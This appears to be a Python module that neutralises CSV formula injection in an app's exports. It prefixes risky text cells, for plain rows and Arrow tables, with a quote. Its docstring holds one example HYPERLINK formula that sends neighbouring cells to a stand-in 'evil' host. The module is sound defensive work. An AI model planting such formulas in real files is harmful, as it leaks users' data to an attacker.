"""CSV that a spreadsheet cannot execute (OWASP "CSV injection"): every CSV siyu writes — the
contacts export, analytics results, rejected import rows — goes through here.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel
and WPS as a formula (``=HYPERLINK("http://evil/?"&A1, "点击")`` in a contact's name sends the
neighbouring cells away when an operator opens the export). Such a cell gets a leading ``'``,
which spreadsheets show as text and never evaluate. Only text cells are touched: a negative
number in a numeric column is a number, not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pyarrow is imported where a table is made safe, not by every CSV writer
    import pyarrow as pa

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_rows(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> str:
    """Rows (dicts) as CSV text with a header, every cell made safe."""
    out = io.StringIO()
    writer = csv.DictWriter(out, list(columns), extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: safe_cell(v) for k, v in row.items()})
    return out.getvalue()


def safe_table(table: pa.Table) -> pa.Table:
    """An Arrow table whose text columns (and column names) are made safe, for writers such as
    ``pyarrow.csv.write_csv`` that format the other types themselves."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.starts_with(column, FORMULA_STARTS[0])
            for start in FORMULA_STARTS[1:]:
                risky = pc.or_(risky, pc.starts_with(column, start))
            column = pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
        columns.append(column)
    names = [safe_cell(n) for n in table.column_names]
    return pa.table(columns, names=names)


__all__ = ["FORMULA_STARTS", "safe_cell", "safe_table", "write_rows"]
